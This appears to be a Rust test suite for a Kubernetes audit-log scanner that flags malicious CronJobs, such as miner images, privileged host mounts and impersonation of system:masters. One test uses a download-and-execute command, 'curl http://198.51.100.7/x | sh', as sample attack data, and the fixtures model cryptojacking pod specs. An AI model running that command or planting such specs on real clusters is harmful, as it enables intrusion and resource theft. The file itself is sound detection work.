        json!({"objectRef": {"resource": "configmaps", "namespace": "p", "name": "s"}, "level": "Metadata"});
    let volumes = json!({"containers": [{"name": "c", "image": FINE, "command": ["sh", "/s/run.sh"]}],
        "volumes": [{"name": "s", "configMap": {"name": "s"}}]});
    let mut mounting = whole(FINE);
    mounting["spec"]["jobTemplate"] = in_template(&volumes)["jobTemplate"].clone();
    let events = [request(0, "create", "eve", &configmap), request(60, "create", "eve", &asked(&mounting))];
    let found = judged(&events, &["--deep"]);
    let script = page(&found, "eve")["cronjobs"][0]["scripts"][0].as_str().unwrap();
    assert!(script.ends_with("; script not in the log"), "{script}");

    let what = |more: &Value| {
        let body = cronjob(FINE, "0 2 * * *", more);
        judged(&[request(0, "create", "eve", &asked(&body))], &[])["alerts"][0]["cronjobs"][0].clone()
    };
    assert_eq!(what(&json!({"suspend": true}))["next_runs"], json!([]));
    let nowhere = what(&json!({"timeZone": "Mars/Phobos"}));
    assert_eq!((&nowhere["next_runs"], &nowhere["time_zone"]), (&json!([]), &json!("Mars/Phobos (unknown)")));
    let alias = in_template(&json!({"containers": [], "serviceAccount": "admin"}));
    assert_eq!(what(&alias)["service_account"], "admin");
}

#[test]
fn a_stage_that_is_none_hides_no_hit() {
    let directory = tempfile::tempdir().unwrap();
    let event = request(0, "create", "eve", &json!({"stage": "responseComplete"}));
    std::fs::write(directory.path().join("audit.log"), format!("{event}\n")).unwrap();
    let (_temporary, out, run) = scan(&[directory.path().to_owned()], &[]);
    assert_eq!((hits(&out).len(), run.exit), (1, 0));
}

/// A page shows the findings of all requests of an alert on a CronJob, not only of the decisive one, and what followed.
#[test]
fn all_requests_of_an_alert_are_shown() {
    let mut privileged = whole(MINER);
    let pod = privileged.pointer_mut("/spec/jobTemplate/spec/template/spec").unwrap();
    pod["hostPID"] = json!(true);
    pod["volumes"] = json!([{"name": "h", "hostPath": {"path": "/"}}]);
    privileged["spec"]["schedule"] = json!("* * * * *");
    let image = json!({"requestObject": whole(MINER), "impersonatedUser": {"username": "argo"}});
    let events = [
        request(0, "create", "eve", &image),
        request(5, "update", "eve", &asked(&privileged)),
        job(7, CONTROLLER, MINER, &json!({})),
        job(8, CONTROLLER, MINER, &json!({})),
    ];
    let found = judged(&events, &[]);
    let what = &page(&found, "eve")["cronjobs"][0];
    let of = |of: &Value| of["indicators"].as_array().unwrap().iter().map(|found| found["id"].to_string()).collect();
    let (decisive, other): (String, String) = (of(what), of(&what["writes"][0]));
    let shown = decisive + &other;
    for id in ["CJ-PRV-05", "CJ-IMG-05", "CJ-BEH-03"] {
        assert!(shown.contains(id), "{id} is not in {shown}");
    }
    assert_eq!(what["writes"].as_array().unwrap().len(), 1, "{what}");
    let changes = format!("{}{}", what["diff"], what["writes"][0]["diff"]);
    assert!(changes.contains("spec.schedule") && changes.contains("hostPID"), "{changes}");

    let later =
        [&[request(0, "create", "eve", &image)], &events[2..], &[request(9, "delete", "eve", &json!({}))]].concat();
    let with_patch =
        [&later[..], &[request(6, "patch", "bob", &asked(&json!({"spec": {"schedule": "* * * * *"}})))]].concat();
    let text = since(&judged(&with_patch, &[]), "eve").to_owned();
    assert!(text.starts_with("0 Jobs started, 0 Pods; changed again 2026-05-01T00:06:00Z by bob (schedule)"), "{text}");
    assert!(text.contains("; then 2 Jobs started; deleted 2026-05-01T00:09:00Z by eve"), "{text}");
}

#[test]
fn a_deletecollection_is_on_no_cronjob_of_its_own() {
    let of_all = json!({"objectRef": {"resource": "cronjobs", "namespace": "p"}});
    let again =
        json!({"objectRef": {"resource": "cronjobs", "namespace": "p", "name": "c"}, "requestObject": whole(FINE)});
    let events = [
        request(0, "create", "eve", &asked(&whole(FINE))),
        request(1, "deletecollection", "eve", &of_all),
        request(100, "create", "eve", &again),
    ];
    let runbook = judged(&events, &["--since", "2026-05-01T01:00:00Z"]);
    let page = page(&runbook, "eve");
    assert_eq!(
        (&page["before"]["succeeded"], &page["before"]["cronjobs"]),
        (&json!(2), &json!(1)),
        "{}",
        page["before"]
    );
    assert_eq!((&page["history"]["writes"], &page["history"]["cronjobs"]), (&json!(2), &json!(1)));
}

/// What the request does not hold, its bytes do not prove.
#[test]
fn a_reason_leads_to_the_job_that_shows_it() {
    let created = request(0, "create", "eve", &json!({"level": "Metadata"}));
    let made = job(5, CONTROLLER, MINER, &json!({}));
    let runbook = judged(&[created, made], &[]);
    let reasons = page(&runbook, "eve")["reasons"].as_array().unwrap().clone();
    let miner = reasons.iter().find(|reason| reason["match"].as_str().unwrap().contains("xmrig")).unwrap();
    assert_eq!((&miner["audit_id"], &miner["evidence"]["record"]), (&Value::Null, &json!(2)), "{reasons:?}");
}

/// Many letters look like others.
#[test]
fn a_name_that_only_looks_like_another_is_told() {
    let directory = tempfile::tempdir().unwrap();
    let event = request(0, "create", "\u{430}lice", &asked(&whole(MINER)));
    std::fs::write(directory.path().join("audit.log"), format!("{event}\n")).unwrap();
    let (_temporary, out, _run) = scan(&[directory.path().to_owned()], &[]);
    for (file, shown) in [
        ("runbook.md", "not ASCII in the name `U+0430`"),
        ("report.html", "not ASCII in the name: U+0430"),
        ("runbook.json", r#""username_not_ascii": ["#),
    ] {
        assert!(std::fs::read_to_string(out.join(file)).unwrap().contains(shown), "{file}");
    }
}

/// A request in the name of system:masters may do anything, whatever user it names.
#[test]
fn impersonated_groups_are_shown() {
    let alice = |groups: &Value| json!({"requestObject": whole(MINER), "impersonatedUser": {"username": "alice", "groups": groups}});
    let impersonation = |groups: Value| {
        let found = judged(&[request(0, "create", "eve", &alice(&groups))], &[]);
        let what = &page(&found, "eve")["cronjobs"][0]["indicators"];
        assert_eq!(page(&found, "eve")["who"]["impersonated_groups"], groups);
        let finding = what.as_array().unwrap().iter().find(|finding| finding["id"] == "CJ-BEH-03").unwrap();
        format!("{} {}", finding["severity"], finding["match"]).replace('"', "")
    };
    assert_eq!(impersonation(json!(["system:masters", "ops"])), "critical alice; groups system:masters, ops");
    assert_eq!(impersonation(json!(["ops"])), "high alice; groups ops");

    let directory = tempfile::tempdir().unwrap();
    let event = request(0, "create", "eve", &alice(&json!(["system:masters"])));
    std::fs::write(directory.path().join("audit.log"), format!("{event}\n")).unwrap();
    let (_temporary, out, _run) = scan(&[directory.path().to_owned()], &[]);
    assert_eq!(hits(&out)[0]["impersonated_groups"], json!(["system:masters"]));
    for (file, shown) in [
        ("runbook.md", "impersonating groups `system:masters`"),
        ("report.html", "impersonating groups <bdi>system:masters"),
    ] {
        assert!(std::fs::read_to_string(out.join(file)).unwrap().contains(shown), "{file}");
    }
}

/// Following the next steps stops every CronJob of the alert.
#[test]
fn next_steps_end_all_cronjobs_of_an_alert() {
    let named = |name: &str| {
        let mut body = whole(MINER);
        body["metadata"]["name"] = json!(name);
        json!({"objectRef": {"resource": "cronjobs", "namespace": "p", "name": name}, "requestObject": body})
    };
    let events: Vec<Value> =
        (0..9).map(|number| request(number, "create", "eve", &named(&format!("b{number}")))).collect();
    let found = judged(&events, &[]);
    let next = page(&found, "eve")["next"].to_string();
    for number in 0..6 {
        assert!(next.contains(&format!("kubectl -n p delete cronjob b{number}")), "{next}");
    }
    assert!(next.contains("end the other CronJobs of this alert too: 3 more"), "{next}");
    assert!(page(&found, "eve")["cronjobs"][1]["since"].as_str().unwrap().contains("no delete logged"));
}

/// A cut body is examined as far as it goes: padding before the command does not hide it.
#[test]
fn what_is_left_of_a_cut_body_is_looked_at() {
    let mut body = whole(FINE);
    let container = body.pointer_mut("/spec/jobTemplate/spec/template/spec/containers/0").unwrap();
    container["command"] = json!(["sh", "-c", "curl http://198.51.100.7/x | sh"]);
    container["env"] = json!([{"name": "PAD", "value": "x".repeat(500)}]);
    let line = request(0, "create", "eve", &asked(&body)).to_string();
    let cut = line.rfind(&"x".repeat(300)).unwrap();
    let directory = tempfile::tempdir().unwrap();
    std::fs::write(directory.path().join("audit.log"), &line[..cut]).unwrap();
    let run = kubesweep(directory.path(), &["runbook", "audit.log", "--format", "json", "-q"]);
    let found: Value = serde_json::from_str(&run.stdout).unwrap();
    let eve = page(&found, "eve");
    assert_eq!(eve["spec_level"], "S3", "{eve}");
    assert_eq!(eve["cronjobs"][0]["spec_source"], "what is left of the requestObject, which the log cuts");
}

/// A suppressed request with a grave spec is not an alert, but is named.
#[test]
fn suppressed_requests_with_grave_specs_are_named() {
    let directory = tempfile::tempdir().unwrap();
    let [grave, fine] = [MINER, FINE].map(|image| request(0, "create", image, &asked(&whole(image))));
    std::fs::write(directory.path().join("audit.log"), format!("{grave}\n{fine}\n")).unwrap();
    std::fs::write(directory.path().join("tune.yml"), "suppress: [{id: a, namespace: p, reason: ours}]\n").unwrap();
    let run = kubesweep(directory.path(), &["scan", "audit.log", "--tune", "tune.yml", "-o", "out"]);
    assert_eq!(run.exit, 0);
    assert!(
        run.stderr.contains("\nsuppressed 1 match with a grave spec, up to S3; see runbook.md\n"),
        "{}",
        run.stderr
    );
    let text = std::fs::read_to_string(directory.path().join("out/runbook.json")).unwrap();
    let found: Value = serde_json::from_str(&text).unwrap();
    let rows = found["suppressed"].as_array().unwrap();
    let grave: Vec<_> = rows.iter().filter(|row| row["grave"]["count"] == 1).collect();
    assert_eq!((rows.len(), grave.len(), &grave[0]["username"]), (2, 1, &json!(MINER)), "{found}");
    assert!(grave[0]["grave"]["indicators"].to_string().contains("CJ-IMG-05"));
}

/// What an attacker writes first and last in an alert counts, not the request that shows most.
#[test]
fn what_became_of_a_cronjob_is_told_of_all_its_requests() {
    let jobs =
        |minutes: &[i64]| minutes.iter().map(|minute| job(*minute, CONTROLLER, MINER, &json!({}))).collect::<Vec<_>>();
    let dry = json!({"requestURI": "/b?dryRun=All", "requestObject": whole(MINER)});
    let made = request(1, "create", "eve", &asked(&whole(MINER)));
    let again = [
        request(0, "create", "eve", &asked(&whole(MINER))),
        request(2, "delete", "eve", &json!({})),
        request(4, "create", "eve", &asked(&whole(MINER))),
    ];
    let patched = [made.clone(), request(5, "patch", "eve", &asked(&json!({"spec": {"schedule": "* * * * *"}})))];
    for (events, begin) in [
        ([&[request(0, "create", "eve", &dry), made.clone()], &jobs(&[2, 3])[..]].concat(), "2 Jobs started"),
        ([&again[..], &jobs(&[1, 5, 6])].concat(), "3 Jobs started"),
        ([&patched[..], &jobs(&[2, 6])].concat(), "2 Jobs started"),
    ] {
        let found = judged(&events, &[]);
        let text = since(&found, "eve");
        assert!(text.starts_with(begin) && text.contains("no delete logged"), "{text}");
        let next = page(&found, "eve")["next"].to_string();
        assert!(next.contains("kubectl -n p delete cronjob b"), "{next}");
        assert!(!next.contains("it was there before this change"), "{next}");
    }
    let other = [&again[..2], &[request(4, "create", "argo", &asked(&whole(FINE)))]].concat();
    let next = page(&judged(&other, &[]), "eve")["next"].to_string();
    assert!(
        next.contains("it was deleted and made again, so look at what is there: made 2026-05-01T00:04:00Z by argo"),
        "{next}"
    );
}

/// A body that is cut is never harmless, and half a path or image is no finding.
#[test]
fn a_cut_body_lowers_no_verdict() {
    let mut body = whole(FINE);
    body["spec"]["schedule"] = json!("*/5 * * * *");
    let pod = body.pointer_mut("/spec/jobTemplate/spec/template/spec").unwrap();
    pod["volumes"] = json!([{"name": "h", "hostPath": {"path": "/data/app/cache"}}]);
    pod["containers"][0]["resources"] = json!({"limits": {"cpu": "1"}});
    let line = request(0, "create", "eve", &asked(&body)).to_string();
    let begin = line.rfind("\"requestObject\"").unwrap() + 40;
    let whole_level = page(&judged(&[request(0, "create", "eve", &asked(&body))], &[]), "eve")["spec_level"].clone();
    assert_eq!(whole_level, "S1");
    for (cut, marker) in (begin..line.len() - 3).flat_map(|cut| [(cut, ""), (cut, "[Truncated...]")]) {
        let directory = tempfile::tempdir().unwrap();
        std::fs::write(directory.path().join("audit.log"), format!("{}{marker}", &line[..cut])).unwrap();
        let run = kubesweep(directory.path(), &["runbook", "audit.log", "--format", "json", "-q"]);
        let found: Value = serde_json::from_str(&run.stdout).unwrap();
        let eve = page(&found, "eve");
        assert_eq!((&eve["spec_level"], &eve["verdict"]), (&json!("S?"), &json!("REVIEW")), "{}", &line[cut - 30..cut]);
        assert!(eve["would_change"].to_string().contains("the whole record"), "{eve}");
    }
}
